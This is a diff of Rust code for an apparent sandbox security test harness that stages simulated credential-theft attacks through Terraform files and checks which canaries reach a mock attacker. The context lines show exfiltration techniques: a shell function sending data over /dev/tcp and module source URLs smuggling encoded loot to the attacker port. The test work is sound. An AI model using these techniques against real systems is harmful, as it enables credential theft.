@@ -50,7 +50,8 @@ impl HostSockets {
 
 /// What the scripts share: `tell NAME` sends its standard input, `loot` prints everything that may lead to a credential.
 pub(super) fn library(stage: &Stage) -> String {
-    let places = [stage.memory.path(), &stage.path("state"), &stage.path("runs")].map(|path| path.display().to_string());
+    let places =
+        [stage.memory.path(), &stage.path("state"), &stage.path("runs")].map(|path| path.display().to_string());
     format!(
         r#"tell() {{
   exec 3<>/dev/tcp/127.0.0.1/{port} || return
@@ -114,7 +115,9 @@ loot | tell later
 /// A1: by what the environment says, and by the path that only a program could have told.
 fn expressions(stage: &Stage) -> String {
     let (port, memory) = (stage.attacker.port, stage.memory.path().display());
-    let docker = |cli: &str| format!("try(file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", {cli})[0]), \"none\")");
+    let docker = |cli: &str| {
+        format!("try(file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", {cli})[0]), \"none\")")
+    };
     let module = |name: &str, loot: &str| {
         let turned = format!("strrev(replace(replace(base64encode({loot}), \"+\", \"-\"), \"/\", \"_\"))");
         format!("module \"{name}\" {{\n  source = \"http://127.0.0.1:{port}/{name}.zip?loot=${{{turned}}}\"\n}}\n")
@@ -149,7 +152,8 @@ pub(super) fn run(stage: &Stage, delivery: Delivery, sockets: &HostSockets, modu
     stage.attacker.forget();
     stage.attacker.looks(stage.look_from_outside());
     let files = [
-        ("main.tf", format!("{module}{}", expressions(stage))),
+        ("main.tf", module.to_owned()),
+        ("expressions.tf", expressions(stage)),
         ("later.tf", later(stage)),
         ("encryption.tf", ENCRYPTION.to_owned()),
         ("value.auto.tfvars", format!("value = \"{}\"\n", stage.value.password)),
@@ -163,7 +167,11 @@ pub(super) fn run(stage: &Stage, delivery: Delivery, sockets: &HostSockets, modu
     assert_eq!(said.code, Some(0), "{delivery:?}: {:?}\n{all}", stage.attacker.names());
     let shown = stage.world.run(&stage.world.newest());
     let receipt = &shown["receipts"][0];
-    assert_eq!((&receipt["delivery"], &receipt["sandbox"]), (&delivery.name().into(), &stage.sandbox.into()), "{receipt:#}");
+    assert_eq!(
+        (&receipt["delivery"], &receipt["sandbox"]),
+        (&delivery.name().into(), &stage.sandbox.into()),
+        "{receipt:#}"
+    );
     assert_eq!(receipt["wiped"], true, "{receipt:#}");
 
     let mut see = |row: &str, outcome: Outcome| observed.add(row, delivery, outcome);
@@ -203,7 +211,8 @@ fn taken(canary: &Canary, bytes: &[u8]) -> Outcome {
 
 /// A report, which must show that its attack went to its end.
 fn reported(stage: &Stage, name: &str, shows: &str) -> Vec<u8> {
-    let report = stage.attacker.report(name).unwrap_or_else(|| panic!("no report {name}: {:?}", stage.attacker.names()));
+    let report =
+        stage.attacker.report(name).unwrap_or_else(|| panic!("no report {name}: {:?}", stage.attacker.names()));
     assert!(String::from_utf8_lossy(&report).contains(shows), "{name}: {}", String::from_utf8_lossy(&report));
     report
 }
@@ -258,4 +267,3 @@ fn password_of_state(stage: &Stage) -> Outcome {
     let is_known = [identity, admin].iter().any(|token| has(&Canary::of(token.trim()), &stage.attacker.everything()));
     if is_known { Outcome::Open } else { Outcome::Nothing }
 }
-
